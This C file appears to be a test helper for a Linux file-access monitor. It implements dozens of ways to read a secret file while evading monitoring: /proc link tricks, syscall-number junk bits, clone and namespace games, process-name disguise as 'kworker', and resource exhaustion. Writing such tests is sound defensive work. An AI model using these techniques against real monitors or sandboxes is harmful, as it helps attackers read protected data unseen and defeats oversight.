/* SPDX-License-Identifier: Apache-2.0 */
/*
 * evade WAY SECRET...: gets at the file SECRET by a way that a monitor may overlook, and prints what it
 * holds: who sees that text knows that the attack succeeded. Exit status: 0, or 1 with errno's text, or 77
 * where the kernel has no such way.
 */
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <linux/filter.h>
#include <linux/openat2.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "evade.h"

static char folder[4096], base[4096];

int show(int fd)
{
	char buffer[512];
	ssize_t n = fd < 0 ? -1 : read(fd, buffer, sizeof(buffer));

	if (n < 0 || write(1, buffer, (size_t)n) != n)
		return -1;
	return close(fd);
}

static int folder_fd(int flags)
{
	return open(folder, flags | O_CLOEXEC);
}

int by_root_link(const char *path)
{
	char long_path[8192];

	snprintf(long_path, sizeof(long_path), "/proc/self/root%s", path);
	return show(open(long_path, O_RDONLY));
}

static int by_cwd_link(const char *path)
{
	char long_path[8192];

	(void)path;
	snprintf(long_path, sizeof(long_path), "/proc/self/cwd/%s", base);
	return chdir(folder) ? -1 : show(open(long_path, O_RDONLY));
}

static int by_path_fd(const char *path)
{
	int at = folder_fd(O_PATH | O_DIRECTORY);

	(void)path;
	return at < 0 ? -1 : show(openat(at, base, O_RDONLY));
}

static int by_reopen(const char *path)
{
	char link[64];

	snprintf(link, sizeof(link), "/proc/self/fd/%d", open(path, O_PATH));
	return show(open(link, O_RDONLY));
}

static int by_fchdir(const char *path)
{
	(void)path;
	return fchdir(folder_fd(O_PATH)) ? -1 : show(open(base, O_RDONLY));
}

static int by_chroot(const char *path)
{
	char long_path[8192];

	(void)path;
	snprintf(long_path, sizeof(long_path), "/%s", base);
	return chroot(folder) || chdir("/") ? -1 : show(open(long_path, O_RDONLY));
}

static int by_handle(const char *path)
{
	union {
		struct file_handle h;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u = { .h.handle_bytes = MAX_HANDLE_SZ };
	int id, at = folder_fd(O_RDONLY);

	return name_to_handle_at(AT_FDCWD, path, &u.h, &id, 0) ? -1 : show(open_by_handle_at(at, &u.h, O_RDONLY));
}

static int by_openat2(const char *path)
{
	struct open_how how = { .flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT };

	(void)path;
	return show((int)syscall(SYS_openat2, folder_fd(O_PATH), base, &how, sizeof(how)));
}

static int by_junk_bits(const char *path)
{
	return show((int)syscall(SYS_openat, 0xdeadbeef00000000L | (unsigned int)AT_FDCWD, path, 0x7777777700000000L));
}

/* the kernel looks at 32 bits of the number, too */
static int by_junk_number(const char *path)
{
	return show((int)syscall(0x1234567800000000L | SYS_openat, AT_FDCWD, path, O_RDONLY));
}

static int by_sendfile(const char *path)
{
	return sendfile(1, open(path, O_RDONLY), NULL, 512) > 0 ? 0 : -1;
}

static int by_splice(const char *path)
{
	int ends[2];

	return pipe(ends) || splice(open(path, O_RDONLY), NULL, ends[1], NULL, 512, 0) <= 0 ? -1 : show(ends[0]);
}

static int by_copy_range(const char *path)
{
	char name[8192];
	int out;

	snprintf(name, sizeof(name), "%s/copied", folder);
	out = open(name, O_RDWR | O_CREAT | O_TRUNC, 0600);
	return copy_file_range(open(path, O_RDONLY), NULL, out, NULL, 512, 0) <= 0 || lseek(out, 0, SEEK_SET) ?
		       -1 :
		       show(out);
}

/* in a child of its own: clone flags that share one thing and not the others */
const char *shared_path;
static int shared_fd;

static int open_base(void *arg)
{
	(void)arg;
	return show(open(base, O_RDONLY)) ? 1 : 0;
}

static int change_folder(void *arg)
{
	(void)arg;
	return chdir(folder) ? 1 : 0;
}

static int replace_fd(void *arg)
{
	(void)arg;
	return dup2(folder_fd(O_PATH), shared_fd) < 0;
}

int open_secret(void *arg)
{
	(void)arg;
	return show(open(shared_path, O_RDONLY)) ? 1 : 0;
}

int in_clone(int (*run)(void *), int flags)
{
	static char stack[65536] __attribute__((aligned(16)));
	int status;
	pid_t child = clone(run, stack + sizeof(stack), flags | SIGCHLD, NULL);

	return child < 0 || waitpid(child, &status, __WALL) < 0 || status ? -1 : 0;
}

static int by_shared_cwd(const char *path)
{
	(void)path;
	return in_clone(change_folder, CLONE_FS) ? -1 : show(open(base, O_RDONLY));
}

static int by_shared_fds(const char *path)
{
	(void)path;
	shared_fd = open("/", O_PATH);
	return in_clone(replace_fd, CLONE_FILES) ? -1 : show(openat(shared_fd, base, O_RDONLY));
}

static int by_vfork_like(const char *path)
{
	(void)path;
	return chdir(folder) ? -1 : in_clone(open_base, CLONE_VM | CLONE_VFORK | CLONE_FS);
}

/* a folder of a thread's own, and another one of the other threads' */
static int open_apart(void *arg)
{
	(void)arg;
	return chdir(folder) || show(open(base, O_RDONLY)) ? 1 : 0;
}

static int go_away(void *arg)
{
	(void)arg;
	return chdir("/") ? 1 : 0;
}

static void *unshare_and_run(void *run)
{
	int (*function)(void *);

	*(void **)&function = run;
	return syscall(SYS_unshare, CLONE_FS) || function(NULL) ? run : NULL;
}

static int in_thread_apart(int (*run)(void *))
{
	pthread_t thread;
	void *failed;

	return pthread_create(&thread, NULL, unshare_and_run, *(void **)&run) || pthread_join(thread, &failed) ||
			       failed ?
		       -1 :
		       0;
}

static int by_thread_apart(const char *path)
{
	(void)path;
	return in_thread_apart(open_apart);
}

static int by_apart_from_thread(const char *path)
{
	(void)path;
	return chdir(folder) || in_thread_apart(go_away) ? -1 : show(open(base, O_RDONLY));
}

/* a copy of who has a folder of its own has that one, too */
static int fork_apart(void *arg)
{
	(void)arg;
	return chdir(folder) || in_clone(open_base, 0);
}

static int by_child_of_apart(const char *path)
{
	(void)path;
	return in_thread_apart(fork_apart);
}

/* two processes of one memory that share no folder */
static int by_memory_only(const char *path)
{
	(void)path;
	return in_clone(open_apart, CLONE_VM);
}

/* the other way than shared-cwd: the child's folder is changed by its parent */
static int by_parents_cwd(const char *path)
{
	(void)path;
	return chdir("/") || in_clone(change_folder, CLONE_FS) ? -1 : in_clone(open_base, 0);
}

static int by_daemon(const char *path)
{
	int ends[2];
	char c;

	if (pipe(ends))
		return -1;
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			show(open(path, O_RDONLY));
			_exit(0);
		}
		_exit(0);
	}
	close(ends[1]);
	while (wait(NULL) > 0)
		;
	return read(ends[0], &c, 1) == 0 ? 0 : -1; /* the end: the grandchild is gone */
}

static int by_bind_mount(const char *path)
{
	char name[8192];

	snprintf(name, sizeof(name), "%s/plain", folder);
	close(open(name, O_WRONLY | O_CREAT, 0644));
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || mount(path, name, NULL, MS_BIND, NULL))
		return -1;
	return show(open(name, O_RDONLY));
}

static int by_new_root(const char *path)
{
	(void)path;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || mount(folder, folder, NULL, MS_BIND | MS_REC, NULL) ||
	    chdir(folder) || syscall(SYS_pivot_root, ".", ".") || umount2(".", MNT_DETACH) || chdir("/"))
		return -1;
	return show(open(base, O_RDONLY));
}

static int by_undumpable(const char *path)
{
	return prctl(PR_SET_DUMPABLE, 0) ? -1 : show(open(path, O_RDONLY));
}

/* its memory is a copy that nobody can have opened before */
static int by_undumpable_child(const char *path)
{
	pid_t child;
	int status;

	if (prctl(PR_SET_DUMPABLE, 0))
		return -1;
	child = fork();
	if (child == 0)
		_exit(show(open(path, O_RDONLY)) ? 1 : 0);
	return child < 0 || waitpid(child, &status, 0) != child || status ? -1 : 0;
}

static int by_other_name(const char *path)
{
	return prctl(PR_SET_NAME, "\033[2J\n\xff") ? -1 : show(open(path, O_RDONLY));
}

static int by_received_fd(const char *path)
{
	char room[CMSG_SPACE(sizeof(int))] = { 0 }, byte = 0;
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof(room) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	int pair[2], fd = open(path, O_RDONLY);

	if (fd < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		return -1;
	*c = (struct cmsghdr){ CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS };
	memcpy(CMSG_DATA(c), &fd, sizeof(fd));
	if (sendmsg(pair[0], &m, 0) != 1 || recvmsg(pair[1], &m, 0) != 1)
		return -1;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(fd));
	return show(fd);
}

static int by_full_table(const char *path)
{
	struct rlimit few = { 16, 16 };
	int fd, last = -1;

	if (setrlimit(RLIMIT_NOFILE, &few))
		return -1;
	while ((fd = dup(0)) >= 0)
		last = fd;
	if (open(path, O_RDONLY) >= 0 || errno != EMFILE)
		return -1;
	close(last);
	return show(open(path, O_RDONLY));
}

/* no page left for anything */
static int by_full_memory(const char *path)
{
	struct rlimit few = { 64 << 20, 64 << 20 };
	size_t size = 1 << 20;

	if (setrlimit(RLIMIT_AS, &few))
		return -1;
	for (; size >= 4096; size /= 2) {
		char *p;

		while ((p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)) != MAP_FAILED)
			*p = 1;
	}
	return show(open(path, O_RDONLY));
}

/* a listener of our own, whose owner lets the open pass */
static int by_own_listener(const char *path)
{
	struct sock_filter program[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog fprog = { sizeof(program) / sizeof(program[0]), program };
	struct seccomp_notif_resp answer = { .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
	struct seccomp_notif asked = { 0 };
	int listener, status;
	pid_t child;

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &fprog);
	if (listener < 0)
		return -1;
	child = fork();
	if (child == 0)
		_exit(show((int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY)) ? 1 : 0);
	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked))
		return -1;
	answer.id = asked.id;
	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer))
		return -1;
	return waitpid(child, &status, 0) == child && status == 0 ? 0 : -1;
}

/* The numbers of the memory's parts in /proc/self/stat, behind the name: those of its fields 26 to 51. */
static int read_parts(unsigned long long parts[52])
{
	char text[4096], *at;
	int fd = open("/proc/self/stat", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (n < 0 || close(fd))
		return -1;
	text[n] = '\0';
	at = strrchr(text, ')');
	for (int i = 3; at && i < 52; i++) {
		at = strchr(at + 1, ' ');
		parts[i] = at ? strtoull(at, NULL, 10) : 0;
	}
	return at ? 0 : -1;
}

static int has_arguments(const char *word)
{
	char text[4096];
	int fd = open("/proc/self/cmdline", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text));

	return n < 0 || close(fd) || memmem(text, (size_t)n, word, strlen(word));
}

/* the arguments in memory are moved away: who reads them there finds nothing */
static int by_set_mm(const char *path)
{
	char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	unsigned long long parts[52];
	struct prctl_mm_map map;

	if (page == MAP_FAILED || read_parts(parts))
		return -1;
	/* all at once, as everybody may; one by one is for who has a capability that places seldom give */
	map = (struct prctl_mm_map){
		.start_code = parts[26], .end_code = parts[27], .start_stack = parts[28],
		.start_data = parts[45], .end_data = parts[46], .start_brk = parts[47],
		.brk = (uintptr_t)sbrk(0), .arg_start = (uintptr_t)page, .arg_end = (uintptr_t)page + 8,
		.env_start = parts[50], .env_end = parts[51], .exe_fd = (unsigned int)-1,
	};
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0))
		return -1;
	errno = EBUSY;
	if (has_arguments("set-mm") || prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0))
		return -1;
	return show(open(path, O_RDONLY));
}

/* ---- where others could change what the call says ---- */

static void *open_in_thread(void *arg)
{
	return show(open(arg, O_RDONLY)) ? arg : NULL;
}

static int by_thread(const char *path)
{
	pthread_t thread;
	void *failed = NULL;

	return pthread_create(&thread, NULL, open_in_thread, (void *)path) || pthread_join(thread, &failed) || failed ?
		       -1 :
		       0;
}

static int by_sharing_memory(const char *path)
{
	shared_path = path;
	return in_clone(open_secret, CLONE_VM);
}

static int by_sharing_fds(const char *path)
{
	shared_path = path;
	return in_clone(open_secret, CLONE_FILES);
}

static int by_shared_page(const char *path)
{
	char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (page == MAP_FAILED)
		return -1;
	snprintf(page, 4096, "%s", path);
	return show(open(page, O_RDONLY));
}

/* private, but never written to: who writes to the file writes here */
static int by_file_page(const char *path)
{
	char name[8192], *page;
	int fd;

	snprintf(name, sizeof(name), "%s/page-of-file", folder);
	fd = open(name, O_RDWR | O_CREAT | O_TRUNC, 0666);
	if (fd < 0 || fchmod(fd, 0666) || ftruncate(fd, 4096) || pwrite(fd, path, strlen(path) + 1, 0) < 0)
		return -1;
	page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	return page == MAP_FAILED ? -1 : show(open(page, O_RDONLY));
}

/* a NUL ends the name for the kernel, whatever follows */
static int by_early_end(const char *path)
{
	char name[8192];
	int n = snprintf(name, sizeof(name), "%s", path);

	memcpy(name + n + 1, ".decoy", 7);
	return show(open(name, O_RDONLY));
}

/* every descriptor number up to the limit is in use but one */
static int by_many_fds(const char *path)
{
	struct rlimit limit = { 4096, 4096 };
	int last = -1, fd;

	setrlimit(RLIMIT_NOFILE, &limit);
	while ((fd = open("/dev/null", O_RDONLY)) >= 0)
		last = fd;
	return last < 0 || close(last) ? -1 : show(open(path, O_RDONLY));
}

/* more processes at once than the monitor keeps memory descriptors for by default; the last one reads */
static int by_many_processes(const char *path)
{
	enum { MANY = 1500 };
	static pid_t children[MANY];
	int status, r = -1, gate[2];
	char c;

	if (pipe(gate))
		return -1;
	for (int i = 0; i < MANY; i++) {
		children[i] = fork();
		if (children[i] == 0) {
			close(gate[1]);
			open("/dev/null", O_RDONLY);
			if (i == MANY - 1)
				_exit(show(open(path, O_RDONLY)) ? 1 : 0);
			_exit(read(gate[0], &c, 1) < 0);
		}
	}
	if (children[MANY - 1] > 0 && waitpid(children[MANY - 1], &status, 0) > 0 && status == 0)
		r = 0;
	close(gate[1]);
	for (int i = 0; i < MANY - 1; i++)
		if (children[i] > 0)
			waitpid(children[i], &status, 0);
	return r;
}

/* a folder of the test's own is laid over by the secret's, in a mount namespace of its own */
static int by_mount_over(const char *path)
{
	(void)path;
	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount(folder, "/mnt", NULL, MS_BIND, NULL) || chdir("/mnt"))
		return -1;
	return show(open(base, O_RDONLY));
}

/* the same by descriptors of mounts, without a path */
static int by_move_mount(const char *path)
{
	int tree;

	(void)path;
	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		return -1;
	tree = (int)syscall(SYS_open_tree, AT_FDCWD, folder, 1 /* OPEN_TREE_CLONE */);
	return tree < 0 ? -1 : show(openat(tree, base, O_RDONLY));
}

static const struct way {
	const char *name;
	int (*run)(const char *path);
} ways[] = {
	{ "root-link", by_root_link },   { "cwd-link", by_cwd_link },
	{ "path-fd", by_path_fd },       { "reopen", by_reopen },
	{ "fchdir", by_fchdir },         { "chroot", by_chroot },
	{ "handle", by_handle },         { "openat2", by_openat2 },
	{ "junk-bits", by_junk_bits },   { "junk-number", by_junk_number }, { "sendfile", by_sendfile },
	{ "splice", by_splice },         { "copy-range", by_copy_range },
	{ "shared-cwd", by_shared_cwd }, { "shared-fds", by_shared_fds },
	{ "thread-apart", by_thread_apart }, { "apart-from-thread", by_apart_from_thread },
	{ "child-of-apart", by_child_of_apart },
	{ "memory-only", by_memory_only }, { "parents-cwd", by_parents_cwd },
	{ "untraced-anew", by_untraced_anew }, { "untraced-flip", by_untraced_flip },
	{ "untraced", by_untraced },     { "vfork-like", by_vfork_like },
	{ "sibling", by_sibling },
	{ "daemon", by_daemon },         { "bind-mount", by_bind_mount },
	{ "new-root", by_new_root },     { "undumpable", by_undumpable },
	{ "undumpable-child", by_undumpable_child },
	{ "other-name", by_other_name }, { "received-fd", by_received_fd },
	{ "full-table", by_full_table }, { "full-memory", by_full_memory },
	{ "in-thread", by_thread },      { "sharing-memory", by_sharing_memory },
	{ "keeping", by_keeping },       { "keeping-anew", by_keeping_anew },
	{ "keeping-then-fork", by_keeping_then_fork },
	{ "keeping-then-anew", by_keeping_then_anew },
	{ "thread-keeping", by_thread_keeping },
	{ "former-threads", by_former_threads },
	{ "former-threads-spawning", by_former_threads_spawning },
	{ "interrupted-births", by_interrupted_births },
	{ "asking", by_asking },
	{ "untraced-sharing", by_untraced_sharing },
	{ "forged-birth", by_forged_birth }, { "sharing-fds", by_sharing_fds }, { "shared-page", by_shared_page },
	{ "file-page", by_file_page },
	{ "set-mm", by_set_mm },         { "ends-early", by_early_end },
	{ "many-fds", by_many_fds },     { "many-processes", by_many_processes },
	{ "mount-over", by_mount_over }, { "move-mount", by_move_mount },
	{ "negative-number", by_negative_number }, { "ring", by_ring },
	{ "given-ring", by_given_ring },
	{ "own-listener", by_own_listener }, { "own-tracer", by_own_tracer },
#if defined(__x86_64__)
	{ "int80", by_int80 },           { "x32", by_x32 },
	{ "vsyscall", by_vsyscall },     { "int80-setuid", by_int80_setuid },
#endif
};

int main(int argc, char **argv)
{
	char copy[4096];

	if (argc != 3)
		return 2;
	snprintf(copy, sizeof(copy), "%s", argv[2]);
	snprintf(base, sizeof(base), "%s", basename(copy));
	snprintf(copy, sizeof(copy), "%s", argv[2]);
	snprintf(folder, sizeof(folder), "%s", dirname(copy));
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		if (strcmp(ways[i].name, argv[1]) != 0)
			continue;
		if (ways[i].run(argv[2]) == 0)
			return 0;
		fprintf(stderr, "evade: %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	return 77; /* not on this machine's processor */
}
